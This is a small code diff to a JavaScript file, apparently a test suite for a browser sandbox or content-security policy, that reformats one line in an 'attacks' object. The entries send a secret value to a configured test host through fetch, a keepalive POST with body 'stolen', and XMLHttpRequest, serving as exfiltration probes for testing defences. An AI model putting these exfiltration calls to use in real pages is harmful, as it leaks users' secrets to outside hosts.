@@ -3,7 +3,8 @@ const to = (what) => `${setup.http}/${what}?d=${secret()}`;
 const style = (css) => element("style", { textContent: css });
 
 attacks.fetch = () => fetch(to("fetch"), { mode: "no-cors" });
-attacks["fetch-keepalive"] = () => fetch(to("keepalive"), { mode: "no-cors", method: "POST", keepalive: true, body: "stolen" });
+attacks["fetch-keepalive"] = () =>
+  fetch(to("keepalive"), { mode: "no-cors", method: "POST", keepalive: true, body: "stolen" });
 attacks.xhr = () => {
   const request = new XMLHttpRequest();
   request.open("GET", to("xhr"));
